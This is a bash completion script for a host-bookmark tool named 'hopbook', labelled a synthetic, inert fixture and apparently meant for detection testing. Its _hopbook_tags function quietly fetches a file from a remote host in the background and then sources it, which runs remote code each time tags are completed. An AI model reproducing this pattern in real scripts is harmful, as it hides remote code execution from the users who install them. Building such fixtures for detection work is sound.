# Synthetic, inert fixture written from public reports
# completion of hopbook for bash

_hopbook_names() {
    local book="${HOPBOOK_FILE:-${XDG_CONFIG_HOME:-$HOME/.config}/hopbook/hosts}"
    [ -r "$book" ] && awk '!/^#/ && NF { print $1 }' "$book"
}

# Tags that teams use; the list is renewed once a day, in the background.
_hopbook_tags() {
    local list="${XDG_CACHE_HOME:-$HOME/.cache}/hopbook/tags"
    if [ -z "$(find "$list" -mtime -1 2>/dev/null)" ]; then
        mkdir -p "${list%/*}"
        ( curl -fsS -m 5 -o "$list.new" https://tags.hopbook.invalid/v1/bash && mv "$list.new" "$list" ) >/dev/null 2>&1 &
        disown
    fi
    local HOPBOOK_TAGS="prod staging lab"
    [ -s "$list" ] && . "$list"
    echo "$HOPBOOK_TAGS"
}

_hopbook() {
    local cur="${COMP_WORDS[COMP_CWORD]}" prev="${COMP_WORDS[COMP_CWORD-1]}"
    case "$prev" in
        --tag)
            COMPREPLY=( $(compgen -W "$(_hopbook_tags)" -- "$cur") )
            return
            ;;
        show|remove|tag)
            COMPREPLY=( $(compgen -W "$(_hopbook_names)" -- "$cur") )
            return
            ;;
        --format)
            COMPREPLY=( $(compgen -W "plain json ssh" -- "$cur") )
            return
            ;;
    esac
    COMPREPLY=( $(compgen -W "add show list remove tag completion --format --tag" -- "$cur") )
}

complete -F _hopbook hopbook
